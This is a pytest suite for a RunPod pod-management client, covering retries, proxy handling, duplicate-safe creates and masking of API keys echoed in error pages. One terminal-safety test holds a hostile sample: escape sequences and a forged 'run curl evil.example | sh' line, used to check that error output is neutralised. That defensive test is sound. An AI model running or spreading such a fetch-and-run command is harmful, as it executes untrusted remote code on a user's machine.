    pod = Pod.from_api({"id": "p1", "status": "RUNNING", "ssh": {"direct": {
        "host": "10.0.0.7", "port": 40022, "username": "root"}}})
    key = tmp_path / "key"
    for given, target in ((Settings(), ("root", "10.0.0.7", 40022)),
                          (Settings(ssh_port=2222), ("root", "10.0.0.7", 2222)),
                          (Settings(ssh_user="bob"), ("bob", "10.0.0.7", 40022)),
                          (Settings(ssh_host="gw.example", ssh_user="bob"),
                           ("bob", "gw.example", 22))):
        assert pods.ssh_target(pod, given)[:3] == target
        cycle = remote.endpoint_for(pod, given, key)
        assert (cycle.user, cycle.host, cycle.port) == target  # the cycle's own, the same
        argv = pods.ssh_argv(pod, key, tmp_path / "kh", given)
        assert argv[1] == f"{target[0]}@{target[1]}"
        assert argv[argv.index("-p") + 1] == str(target[2])
        assert "ConnectTimeout=20" in argv


def test_runpod_style_ssh_endpoints_pass() -> None:
    from podcycle import pods
    from podcycle.runpod.models import Pod

    for direct, proxy in ((("194.26.196.6", 40123, "root"), None),
                          (("::1", 22, "runner"), None),
                          (None, ("ssh.runpod.io", 22, "8y5rumuyb8p9v6-644110b0"))):
        ssh = {}
        for kind, value in (("direct", direct), ("proxy", proxy)):
            if value:
                ssh[kind] = dict(zip(("host", "port", "username"), value, strict=True))
        kind, command, _ = pods.ssh_command(Pod.from_api({"id": "p1", "ssh": ssh}), None)
        host, port, user = direct or proxy
        assert command.startswith(f"ssh {user}@{host}")


@pytest.mark.parametrize("text", ['["denied"]', '"denied"', "4041", '{"errors": {"why": 1}}',
                                  '{"detail": "denied", "errors": 7}', "[]"])
def test_an_error_body_of_any_json_shape_is_one_error(runpod, text: str) -> None:
    """An error answer whose JSON is a list, a string, a number, or whose `errors` is not a
    list was an AttributeError or TypeError traceback in every command."""
    runpod.fault(method="GET", path="/v2/templates", status=400, text=text)
    with pytest.raises(BadRequest) as failed:
        runpod.client().list_templates()
    assert "400" in str(failed.value) and "Traceback" not in str(failed.value)


def test_plain_http_to_this_machine_never_goes_through_a_proxy(runpod, monkeypatch) -> None:
    """HTTP_PROXY applies to http://127.0.0.1 too (no_proxy aside): the proxy received every
    request with the key in clear. The client sends plain http to its server alone."""
    import http.server
    import threading

    seen: list[str] = []

    class Proxy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            seen.append(self.headers.get("Authorization", ""))
            self.send_response(502)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    proxy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    try:
        for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
            monkeypatch.setenv(name, f"http://127.0.0.1:{proxy.server_address[1]}")
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        assert runpod.client().list_templates()[0]["name"] == "chess-bot-training"
        # Nor does the tool's own look at the local RunPod (it "did not answer within 20s"
        # through a dead proxy, and the remedy offered to stop its pods), its admin calls,
        # or a loopback pod's inference API.
        from types import SimpleNamespace

        from podcycle.errors import PodCycleError
        from podcycle.local import control
        from podcycle.pods import call_api

        info, started = control.up(runpod.dir)
        assert info["url"] == runpod.url and not started
        assert runpod.requests()
        with pytest.raises(PodCycleError, match="answered HTTP 401"):
            call_api(SimpleNamespace(id="lp1"), runpod.url, "GET", "/v2/templates")
    finally:
        proxy.shutdown()
        proxy.server_close()
    assert seen == []


def test_a_dead_proxy_or_a_server_without_tls_is_named_as_such(runpod, monkeypatch) -> None:
    """An https base URL through a proxy that is down said "ProxyError: check the network and
    RUNPOD_API_BASE_URL", naming neither the proxy nor its variable; https to a server that
    speaks plain http said "SSLError", a network problem. Each is named now (the proxy by
    host and port: its URL may hold a password)."""
    from podcycle.runpod.errors import Unreachable

    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        dead = closed.getsockname()[1]
    port = runpod.url.rsplit(":", 1)[1]
    for name in ("NO_PROXY", "no_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HTTPS_PROXY", f"http://me:secretpw@127.0.0.1:{dead}")
    client = RunPodClient(f"https://127.0.0.1:{port}", runpod.key, sleep=lambda s: None)
    with pytest.raises(Unreachable) as proxied:
        client.list_templates()
    assert proxied.value.message.startswith(
        f"cannot reach the RunPod API at https://127.0.0.1:{port} through the proxy "
        f"127.0.0.1:{dead} (GET /v2/templates: ProxyError)"), proxied.value.message
    assert "HTTPS_PROXY" in proxied.value.remedy and "NO_PROXY" in proxied.value.remedy
    assert "secretpw" not in proxied.value.render()
    monkeypatch.delenv("HTTPS_PROXY")
    with pytest.raises(Unreachable) as plain:
        RunPodClient(f"https://127.0.0.1:{port}", runpod.key, sleep=lambda s: None
                     ).list_templates()
    assert "the TLS handshake failed" in plain.value.message
    assert "http://" in plain.value.remedy


def test_a_hasty_read_is_one_short_try(runpod) -> None:
    """The billed amount read after a stop is only good to have: at 35 s an answer, the
    client's five tries of 30 s held cycle.stop for 2.5 minutes after the pod was stopped.
    Its hasty copy tries once, for a short while, and leaves the client as it was."""
    from podcycle.runpod.errors import Unreachable

    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="GET", path="/v2/billing/pods", delay=3)
    client = runpod.client(sleep=lambda s: None)
    with pytest.raises(Unreachable, match="within 1s"):
        client.hasty(timeout=1).pod_billing()
    assert len([r for r in runpod.requests() if r["path"] == "/v2/billing/pods"]) == 1
    assert (client.timeout, client.max_retries) == (30.0, 4)


@pytest.mark.slow
def test_a_dead_proxy_in_the_environment_never_stands_before_the_local_runpod(runpod) -> None:
    """HTTP_PROXY (or http_proxy) naming a proxy that is down, as a laptop away from its
    office network has: every command on the local backend waited 20 s, said the local
    RunPod "does not answer: the machine may be overloaded", and offered inv local.down,
    which stops its pods. The tool's own requests to this machine's loopback never go
    through a proxy; the server was never asked."""
    from tests.conftest import run_inv

    with socket.socket() as closed:  # a port nothing listens on, on loopback
        closed.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{closed.getsockname()[1]}"
    for name in ("HTTP_PROXY", "http_proxy"):
        listed = run_inv("pod.list", "--json", env={
            "RUNPOD_BACKEND": "local", "POD_CYCLE_LOCAL_DIR": str(runpod.dir), name: dead,
            "NO_PROXY": "", "no_proxy": ""})
        assert listed.returncode == 0, listed.stderr
        assert "does not answer" not in listed.stderr and "local.down" not in listed.stderr


@pytest.mark.parametrize("path, call, text, said", [
    ("/v2/templates", lambda c: c.list_templates(),
     '{"templates": [{"id": "t1", "ports": ["22/tcp"]}]}', "a template record without a "
     "usable name"),
    ("/v2/templates/t1", lambda c: c.get_template("t1"), '{"id": "t1", "name": 7}',
     "a template record without a usable name"),
    ("/v2/network-volumes", lambda c: c.list_volumes(),
     '{"networkVolumes": [{"id": "v1", "name": "data", "size": "10"}]}',
     "a network volume record without a usable dataCenter, size"),
])
def test_a_record_without_what_the_tasks_read_is_one_error(runpod, path, call, text,
                                                            said) -> None:
    """Templates and volumes stay the API's JSON objects: one without its name, data centre
    or size was a KeyError in pod.provision (after the pod was created), volume.create and
    volume.list. Checked once, where the answer arrives."""
    runpod.fault(method="GET", path=path, status=200, text=text)
    with pytest.raises(ApiError) as refused:
        call(runpod.client())
    assert said in refused.value.message and "RUNPOD_API_BASE_URL" in refused.value.remedy


def test_times_and_lists_of_the_wrong_shape_are_read_without_a_traceback() -> None:
    """`createdAt: 1700000000` or a time without a zone was a TypeError in pod.leftovers (the
    task that finds what still bills) and pod.logs; `runtime.ports: 5` in pod.list."""
    from datetime import UTC, datetime

    from podcycle.leftovers import age_of
    from podcycle.pods import _after
    from podcycle.runpod.models import Pod, api_time

    now = datetime(2026, 12, 4, 12, 0, tzinfo=UTC)
    assert age_of(1700000000, now) is None and age_of(["x"], now) is None
    assert age_of("2026-12-04T11:00:00", now) == 3600.0  # no zone: UTC, as RunPod's are
    assert age_of("2026-12-04T11:00:00Z", now) == 3600.0
    assert api_time("2026-13-45T99:00:00Z") is None
    assert _after("2026-12-04T12:00:01", now) and not _after(12, now)
    pod = Pod.from_api({"id": "p1", "createdAt": 1700000000, "runtime": {"ports": 5},
                        "template": ["t"], "startedAt": {"at": 1}})
    assert (pod.created_at, pod.started_at, pod.template_id, pod.runtime_ports) == (
        None, None, None, ())


def test_an_answer_that_trickles_in_is_a_timeout_not_a_hang() -> None:
    """requests' read timeout bounds each wait for bytes: an API sending a byte at a time
    kept a command waiting until the whole answer came (minutes; for ever for a stop in a
    `finally`). The whole answer must come within the client's bound (2 x the timeout plus
    the connect timeout), else it is the same timeout error as an API that is silent."""
    from podcycle.runpod.errors import Unreachable

    answer = (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 40\r\n"
              b"\r\n" + b'{"pods": []}'.ljust(40))
    sent = []
    done = threading.Event()

    def trickle(conn: socket.socket) -> None:
        for byte in answer:
            if done.wait(0.2):  # the client gave up: stop sending
                return
            conn.sendall(bytes([byte]))
            sent.append(byte)

    with one_connection(trickle) as url:
        client = RunPodClient(url, None, timeout=1, connect_timeout=1, max_retries=0)
        try:
            with pytest.raises(Unreachable) as timed_out:
                client.list_pods()
            assert len(sent) < len(answer), "the error came before the whole answer"
        finally:
            done.set()
    assert "did not answer GET /v2/pods" in timed_out.value.message
    assert "(a timeout)" in timed_out.value.message



@pytest.mark.parametrize("content_type", ["text/event-stream",
                                          "text/event-stream; charset=utf-8"])
def test_a_log_stream_is_read_as_utf_8_with_or_without_a_charset(content_type: str) -> None:
    """An event stream is UTF-8 (the SSE standard says so, and says no charset). requests
    reads a text/* answer without one as Latin-1: a pod's log line "epoch 1 → Zürich"
    showed as "epoch 1 â\x86\x92 ZÃ¼rich" in pod.logs. The local RunPod escapes its JSON to
    ASCII, so only a stream like RunPod's, raw UTF-8 (JSON or plain text), showed it."""
    body = ('id: 1\ndata: {"ts": "2026-12-01T00:00:00Z", "source": "container", '
            '"line": "epoch 1 → Zürich"}\n\nid: 2\ndata: plain ünïcode line\n\n').encode()
    answer = (f"HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\n"
              f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body
    def serve(conn: socket.socket) -> None:
        conn.recv(65536)
        conn.sendall(answer)

    with one_connection(serve) as url:
        client = RunPodClient(url, None, timeout=5, connect_timeout=5, max_retries=0)
        events = list(client.pod_logs("abc123", idle_timeout=5))
    assert [e.line for e in events] == ["epoch 1 → Zürich", "plain ünïcode line"]

def test_cluster_ids_are_checked_before_anything_is_sent() -> None:
    from podcycle.errors import ConfigError

    client = RunPodClient("http://127.0.0.1:9", "k" * 20, sleep=lambda s: None)
    for call in (client.get_cluster, client.delete_cluster, client.cluster_pods,
                 lambda i: client.update_cluster(i, {"name": "x"}),
                 lambda i: client.cluster_billing(cluster_id=i)):
        with pytest.raises(ConfigError, match="cluster id"):
            call("../pods/x")


CLUSTER_BODY = {"name": "cl", "type": "TRAINING",
                "compute": {"gpuTypeId": "NVIDIA RTX A5000", "gpuCountPerPod": 1, "podCount": 2},
                "image": "ghcr.io/example/chess-bot-runpod:latest", "ports": ["22/tcp"],
                "env": {"START_JUPYTER": "0", "START_INFERENCE_API": "0"}}


def test_cluster_create_is_never_resent_after_a_5xx_but_reads_and_deletes_are(runpod) -> None:
    client = runpod.client(sleep=lambda s: None)
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/clusters", status=500, times=1)
    with pytest.raises(ServerError):
        client.create_cluster({**CLUSTER_BODY, "name": "no-blind-retry"})
    assert count(runpod.requests(), "POST", "/v2/clusters") == 1
    runpod.fault(method="GET", path="/v2/clusters", status=503, times=1)
    assert client.list_clusters() == []
    # A 503 is the API's own answer (not done): retried, then the real answer, no such id.
    # (A gateway's 502 may hide a delete that was done: test_a_delete_sent_again_...)
    runpod.fault(method="DELETE", path="/v2/clusters/.*", status=503, times=1)
    with pytest.raises(NotFound):
        client.delete_cluster("lcmissing")
    assert count(runpod.requests(), "DELETE", "/v2/clusters/lcmissing") == 2


def test_cluster_env_is_checked_before_the_create_is_sent(runpod) -> None:
    from podcycle.errors import ConfigError

    runpod.admin("DELETE", "/_local/requests")
    with pytest.raises(ConfigError, match="cluster 'bad-env'"):
        runpod.client().create_cluster({**CLUSTER_BODY, "name": "bad-env",
                                        "env": {"1BAD": "x"}})
    assert count(runpod.requests(), "POST", "/v2/clusters") == 0


def test_member_listing_and_billing_queries_use_the_specs_names(runpod) -> None:
    client = runpod.client()
    client.list_pods(include_cluster_pods=True)
    client.list_pods()
    billing = client.cluster_billing(bucket="hour", last_n=2)
    assert billing["metadata"]["query"]["bucketSize"] == "hour"
    # The module's server is shared: earlier tests may have billed clusters on it.
    assert billing["metadata"]["uniqueClusterCount"] == \
        len({record["clusterId"] for record in billing["records"]})
    assert billing["metadata"]["recordCount"] == len(billing["records"])
    with pytest.raises(BadRequest):  # the spec: lastN or a window, not both
        client.cluster_billing(last_n=2, start="2026-01-01T00:00:00Z")
    recorded = runpod.admin("GET", "/_local/requests")["requests"]
    assert [r["path"] for r in recorded[-4:]] == ["/v2/pods", "/v2/pods",
                                                 "/v2/billing/clusters", "/v2/billing/clusters"]


@pytest.mark.slow
def test_cluster_create_that_times_out_never_makes_two_clusters(runpod) -> None:
    # As for pods: the answer comes after the client gave up; the cluster exists and is
    # found by its name, and the create is never sent a second time.
    runpod.fault(method="POST", path="/v2/clusters", delay=3, times=1)
    runpod.admin("DELETE", "/_local/requests")
    client = runpod.client(create_timeout=1.0, create_settle=15.0)
    cluster = client.create_cluster({**CLUSTER_BODY, "name": "slow-cluster"})
    try:
        eventually(lambda: any(r["method"] == "POST" and r["path"] == "/v2/clusters"
                               and r.get("status") for r in runpod.requests()),
                   what="the slow cluster create to be answered")
        same_name = [c for c in client.list_clusters() if c.name == "slow-cluster"]
        assert [c.id for c in same_name] == [cluster.id]
        assert count(runpod.requests(), "POST", "/v2/clusters") == 1
    finally:
        client.delete_cluster(cluster.id)


@pytest.mark.parametrize("path, listing", [
    ("/v2/pods/abc", "inv pod.list"), ("/v2/clusters/nope/pods", "inv cluster.list"),
    ("/v2/network-volumes/v1", "inv volume.list"), ("/v2/templates/t1", "inv template.list"),
    ("/v2/registries/r1", "inv registry.list")])
def test_a_404_points_at_the_listing_of_what_was_looked_for(path: str, listing: str) -> None:
    from podcycle.runpod.errors import NotFound, error_for

    error = error_for(404, "GET", path, "not found", "http://127.0.0.1:1")
    assert isinstance(error, NotFound)
    assert listing in error.remedy
    assert [other for _, other in (("p", "inv pod.list"), ("c", "inv cluster.list"))
            if other != listing and other in error.remedy] == []


def test_a_404_on_a_listing_points_at_the_api_address() -> None:
    from podcycle.runpod.errors import error_for

    error = error_for(404, "GET", "/v2/pods", "not found", "http://127.0.0.1:1")
    assert "RUNPOD_API_BASE_URL" in error.remedy and "GET /v2/pods" in error.remedy
    assert "pod.list" not in error.remedy



@pytest.mark.parametrize("page", ["text", "json"])
def test_a_key_echoed_in_an_error_page_shows_no_part_of_it(runpod, page: str) -> None:
    """A proxy's or gateway's error page that echoes the request's Authorization header: no
    part of the key is shown. The plain-text page was cut to 200 characters before the key
    was masked, so a key across the cut no longer matched and its first 15 characters
    showed."""
    key = "rpa_ECHOED_KEY_0123456789abcdefZYXWVUTSRQ"
    runpod.add_key(key, ["templates"])
    echo = "x" * 150 + f" denied request with header Bearer {key}"  # the key across 200
    runpod.fault(method="GET", path="/v2/templates", status=400,
                 **({"text": echo} if page == "text" else {"detail": echo}))
    with pytest.raises(BadRequest) as failed:
        RunPodClient(runpod.url, key).list_templates()
    shown = str(failed.value) + str(getattr(failed.value, "message", ""))
    assert "x" * 20 in shown  # the page's text is shown, cut
    assert not [key[i:i + 8] for i in range(len(key) - 7) if key[i:i + 8] in shown], shown


def test_a_key_echoed_without_its_prefix_or_in_base64_is_masked(runpod) -> None:
    """A server that echoed the key altered (without `rpa_`, or base64 as in a Basic
    header) printed it whole: only the exact key was masked."""
    import base64

    key = "rpa_ALTERED_ECHO_0123456789abcdef"
    runpod.add_key(key, ["templates"])
    encoded = base64.b64encode(key.encode()).decode()
    runpod.fault(method="GET", path="/v2/templates", status=403,
                 detail=f"key {key[4:]} lacks a scope; key={encoded}")
    with pytest.raises(Forbidden) as failed:
        RunPodClient(runpod.url, key).list_templates()
    shown = str(failed.value)
    assert "lacks a scope" in shown
    assert key[4:] not in shown and encoded.rstrip("=") not in shown, shown
    # Encoded with what a header puts before it, the key's base64 is shifted: it was shown.
    # Hunt: the base64 of the key without its prefix was shown whole (both altered at once).
    bare = key[4:]
    for header, echoed in [(f"Bearer {key}", key), (f"Authorization: Bearer {key}", key),
                           (f":{key}", key), (f"me:{key}", key), (bare, bare),
                           (f"Bearer {bare}", bare), (f":{bare}", bare)]:
        wrapped = base64.b64encode(header.encode()).decode()
        runpod.clear_faults()
        runpod.fault(method="GET", path="/v2/templates", status=401,
                     detail=f"bad credential {wrapped}")
        with pytest.raises(ApiError) as failed:
            RunPodClient(runpod.url, key).list_templates()
        shown, before = str(failed.value), len(header) - len(echoed)
        assert "bad credential" in shown, shown
        # The characters that encode the key's bytes only: none 8 of them in a row shown.
        keyed = wrapped[-(-before // 3) * 4:(before + len(echoed)) // 3 * 4]
        assert not [keyed[i:i + 8] for i in range(len(keyed) - 7) if keyed[i:i + 8] in shown], \
            (header, shown)


@pytest.mark.parametrize("page", ["text", "json"])
def test_an_error_page_cannot_drive_the_terminal(runpod, page: str) -> None:
    """An answer's text reaches the operator's terminal in the error: its escape sequences
    (retitle the window, erase the screen, recolour) and line breaks (a forged `error:` or
    `→` line) are written as visible escapes, never obeyed."""
    hostile = "bad\x1b]0;owned\x07\x1b[2J\u009b31m\r\n  → run curl evil.example | sh"
    runpod.fault(method="GET", path="/v2/templates", status=400,
                 **({"text": hostile} if page == "text" else {"detail": hostile}))
    with pytest.raises(BadRequest) as failed:
        runpod.client().list_templates()
    shown = str(failed.value)
    assert len(shown.splitlines()) == 2  # the error and its remedy: no line of the answer's
    assert not [c for c in shown if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160], \
        repr(shown)
    assert "bad\\x1b]0;owned\\x07\\x1b[2J\\x9b31m" in shown
    if page == "json":  # a text page's first line is all it shows
        assert "\\x0d\\x0a  → run curl" in shown


@pytest.mark.slow
@pytest.mark.parametrize("status", [502, 504])
def test_a_create_the_gateway_gave_up_on_is_found_not_lost(runpod, status: int) -> None:
    """The gateway answers 502/504 for a create RunPod did all the same: the pod is found by
    its name and returned (recorded by the run, stopped by its `finally`), never sent again.
    Before, the error went up at once, and the pod billed on with no run knowing of it."""
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/pods", status=status, after=True, times=1,
                 text=f"{status} gateway error")
    client = runpod.client(create_settle=15.0)
    pod = client.create_pod(create_body(f"made-anyway-{status}"))
    named = client.find_pods_by_name(f"made-anyway-{status}")
    assert [p.id for p in named] == [pod.id]
    assert count(runpod.requests(), "POST", "/v2/pods") == 1
    client.delete_pod(pod.id)


def test_a_delete_sent_again_after_a_lost_answer_is_done_not_not_found(runpod) -> None:
    """The gateway lost the answer to a DELETE RunPod did: the retry finds nothing (404),
    which is what was asked, not "not found". A DELETE of what never was stays NotFound."""
    client = runpod.client()
    volume = client.create_volume({"name": "deleted-once", "size": 10,
                                   "dataCenter": "LOCAL-1"})
    path = f"/v2/network-volumes/{volume['id']}"
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="DELETE", path=path, status=502, after=True, times=1,
                 text="502 gateway error")
    client.delete_volume(volume["id"])
    assert count(runpod.requests(), "DELETE", path) == 2  # the second one got the 404
    with pytest.raises(NotFound):
        client.delete_volume(volume["id"])


@pytest.mark.slow
def test_a_start_sent_again_after_a_lost_answer_is_not_a_failure(runpod) -> None:
    """The gateway lost the answer to a start RunPod did: the client sends it again, and
    RunPod answers 409 (the spec allows start only from EXITED or ERROR). The pod is read
    back and, starting, counts as started; a start of a pod that is gone stays an error."""
    from podcycle.pods import start_pod

    previous = runpod.admin("POST", "/_local/settings", {})
    runpod.admin("POST", "/_local/settings", {"provision_delay": 3600})  # no processes
    client = runpod.client()
    pod = client.create_pod(create_body("started-twice"))
    try:
        client.pod_action(pod.id, "stop")
        action = f"/v2/pods/{pod.id}/action"
        runpod.admin("DELETE", "/_local/requests")
        runpod.fault(method="POST", path=action, status=502, after=True, times=1,
                     text="502 gateway error")
        start_pod(client, pod.id)
        assert count(runpod.requests(), "POST", action) == 2  # the second one got the 409
        assert client.get_pod(pod.id).status.billing
        client.pod_action(pod.id, "stop")
        client.pod_action(pod.id, "terminate")
        with pytest.raises(NotFound):
            start_pod(client, pod.id)
    finally:
        runpod.admin("POST", "/_local/settings",
                     {"provision_delay": previous.get("provision_delay", 0.2)})
        try:
            client.delete_pod(pod.id)
        except NotFound:
            pass


@pytest.mark.slow
@pytest.mark.parametrize(("status", "text"), [(500, "upstream timeout"), (201, ""),
                                              (201, "[]"), (200, '{"name": "no id"}')])
def test_a_create_whose_answer_is_unusable_adopts_the_pod_it_made(runpod, status: int,
                                                                   text: str) -> None:
    """RunPod made the pod, then answered a 500 or a body without the pod's id: the pod is
    looked up by its unique name and returned (the run records it and its `finally` stops
    it). Before, the run recorded no pod, and its error said nothing of one billing."""
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/pods", status=status, after=True, times=1, text=text)
    client = runpod.client()
    pod = client.create_pod(create_body("made-unsaid"))
    assert [p.id for p in client.find_pods_by_name("made-unsaid")] == [pod.id]
    assert count(runpod.requests(), "POST", "/v2/pods") == 1
    client.delete_pod(pod.id)


@pytest.mark.slow
def test_a_create_refused_with_a_500_says_where_a_pod_would_be(runpod) -> None:
    runpod.fault(method="POST", path="/v2/pods", status=500, times=1, detail="boom")
    with pytest.raises(ServerError) as failed:
        runpod.client().create_pod(create_body("maybe-made"))
    assert failed.value.remedy.startswith("RunPod may have made pod 'maybe-made' all the same: "
                                          "check inv pod.list before trying again")
    assert failed.value.may_have_made  # the run keeps its create outstanding


@pytest.mark.slow
def test_a_create_the_gateway_gave_up_on_that_made_nothing_says_so(runpod) -> None:
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/pods", status=502, times=1, text="bad gateway")
    said: list[str] = []
    with pytest.raises(ServerError) as failed:
        runpod.client(create_settle=0.5, notice=said.append).create_pod(
            create_body("never-made"))
    assert "no pod of that name appeared within" in str(failed.value)
    # The look-up is said as it starts: a create that timed out was a minute of silence.
    assert said == ["creating pod 'never-made': RunPod answered 502; it may have made it all "
                    "the same: looking for it by name for up to 0.5s (never sent twice)"]
    assert "RunPod may still make it, and it bills from then" in str(failed.value)
    assert "it was sent once, so there is at most one" in str(failed.value)
    assert failed.value.may_have_made  # the run keeps its create outstanding
    assert count(runpod.requests(), "POST", "/v2/pods") == 1


@pytest.mark.slow
def test_a_lost_create_never_adopts_a_pod_that_had_the_name_before(runpod) -> None:
    """Two folders running one run id make pods of one name. A create whose answer was lost
    is looked up by its name: it adopted the other folder's pod, already there, as the one
    it made, and the run then trained on it and stopped it under the other."""
    client = runpod.client(create_settle=0.5)
    theirs = client.create_pod(create_body("same-name"))
    try:
        runpod.fault(method="POST", path="/v2/pods", status=502, times=1, text="bad gateway")
        with pytest.raises(ServerError) as failed:
            client.create_pod(create_body("same-name"))
        assert "no pod of that name appeared within" in str(failed.value)
        assert [p.id for p in client.find_pods_by_name("same-name")] == [theirs.id]
    finally:
        client.delete_pod(theirs.id)


@pytest.mark.slow
def test_a_lookup_that_meets_the_same_trouble_still_says_it_was_not_re_sent(runpod) -> None:
    """The gateway's 502 on the create, then 503s on the lookups by name: the error is the
    create's, saying it was not re-sent, never a lookup's 'try again' (a second pod)."""
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/pods", status=502, times=1, text="bad gateway")
    runpod.fault(method="GET", path="/v2/pods", status=503)
    client = runpod.client(create_settle=0.5, sleep=lambda s: None)
    with pytest.raises(ServerError) as failed:
        client.create_pod(create_body("lookup-in-trouble"))
    assert "POST /v2/pods" in str(failed.value)
    assert "RunPod may still make it, and it bills from then" in str(failed.value)
    assert "it was sent once, so there is at most one" in str(failed.value)
    assert count(runpod.requests(), "POST", "/v2/pods") == 1


def test_a_template_patch_with_empty_mounts_leaves_the_mount(runpod) -> None:
    """The spec's TemplateMounts: in a PATCH, `{}` leaves the mount unchanged. The local
    RunPod cleared it, so a file with an empty [mounts] looked synced here and differed on
    RunPod at every sync."""
    client = runpod.client()
    mount = {"persistent": {"size": 20, "path": "/workspace"}}
    made = client.create_template({"name": "mount-kept", "image": "a/b:1", "mounts": mount})
    try:
        client.update_template(made["id"], {"mounts": {}})
        assert client.get_template(made["id"])["mounts"] == mount
    finally:
        client.delete_template(made["id"])


def test_pod_list_filters_keep_the_billing_pods_and_pick_by_name() -> None:
    """A user with months of stopped pods could not find the billing ones in pod.list: every
    pod, in any state, with no filter."""
    from podcycle.pods import select_pods
    from podcycle.runpod.models import Pod

    listed = [Pod.from_api({"id": pod_id, "name": name, "status": status})
              for pod_id, name, status in (
                  ("p1", "pod-cycle-rc-1", "RUNNING"), ("p2", "pod-cycle-rc-2", "EXITED"),
                  ("p3", "Other-RC", "PROVISIONING"), ("p4", "x", "STARTING"),
                  ("p5", "pod-cycle-rc-5", "TERMINATED"), ("p6", None, "ERROR"))]
    ids = lambda found: [p.id for p in found]  # noqa: E731
    assert ids(select_pods(listed)) == ["p1", "p2", "p3", "p4", "p5", "p6"]
    assert ids(select_pods(listed, billing=True)) == ["p1", "p3", "p4"]
    assert ids(select_pods(listed, name="rc-")) == ["p1", "p2", "p5"]
    assert ids(select_pods(listed, name="RC", billing=True)) == ["p1", "p3"]
    assert ids(select_pods(listed, name="nothing")) == []


def test_a_404_page_that_is_not_runpods_is_not_a_gone_pod(runpod) -> None:
    """Hunt (stop 54): a proxy's or gateway's 404 page on a stop and its read-back was taken
    for RunPod's "no such pod": cycle.stop said "gone" (exit 0) and recorded the pod stopped
    while it ran on. RunPod's own 404 is problem+json (the spec's NotFoundError); any other
    404 says nothing of the pod, and is not NotFound."""
    from podcycle.runpod.errors import NotFound, StrayNotFound

    client = runpod.client(max_retries=0)  # each answer as it comes
    with pytest.raises(NotFound) as theirs:
        client.get_pod("lpnothere12345")
    assert not isinstance(theirs.value, StrayNotFound)
    runpod.fault(method="GET", path="/v2/pods/lpnothere12345", status=404, times=1,
                 text="<html>404 Not Found</html>")
    with pytest.raises(StrayNotFound) as stray:
        client.get_pod("lpnothere12345")
    assert not isinstance(stray.value, NotFound)
    assert stray.value.message == (
        "GET /v2/pods/lpnothere12345 got 404 with a page that is not RunPod's (<html>404 Not "
        "Found</html>): a proxy or gateway answered, not RunPod, so it says nothing of what "
        "is there")
    # Second read: an API gateway's own JSON is not RunPod's problem+json either.
    runpod.fault(method="GET", path="/v2/pods/lpnothere12345", status=404, times=1,
                 text='{"message": "Not Found"}')
    with pytest.raises(StrayNotFound):
        client.get_pod("lpnothere12345")
    # Passing trouble, as a 5xx is: a read tries again, and gets RunPod's own answer.
    runpod.fault(method="GET", path="/v2/pods/lpnothere12345", status=404, times=1,
                 text="<html>404 Not Found</html>")
    with pytest.raises(NotFound) as retried:
        runpod.client().get_pod("lpnothere12345")
    assert not isinstance(retried.value, StrayNotFound)


def test_a_volume_create_whose_answer_was_lost_adopts_the_volume_it_made(runpod) -> None:
    """Hunt (stop 54): a gateway's 502 after RunPod made the volume said "RunPod is having
    trouble; try again in a minute", of a volume that existed and billed its storage (the
    retry was refused: the name was taken by it). It is found by its name and adopted, as a
    pod's or a cluster's create is, and the create is sent once."""
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/network-volumes", status=502, after=True, times=1,
                 text="<html>502 Bad Gateway</html>")
    said: list[str] = []
    client = runpod.client(create_settle=5.0, notice=said.append)
    volume = client.create_volume({"name": "lost-answer", "size": 10, "dataCenter": "LOCAL-1"})
    try:
        listed = [v for v in client.list_volumes() if v["name"] == "lost-answer"]
        assert [v["id"] for v in listed] == [volume["id"]]
        assert count(runpod.requests(), "POST", "/v2/network-volumes") == 1
        assert said and said[0].startswith("creating network volume 'lost-answer': RunPod "
                                           "answered 502; it may have made it all the same")
    finally:
        client.delete_volume(volume["id"])
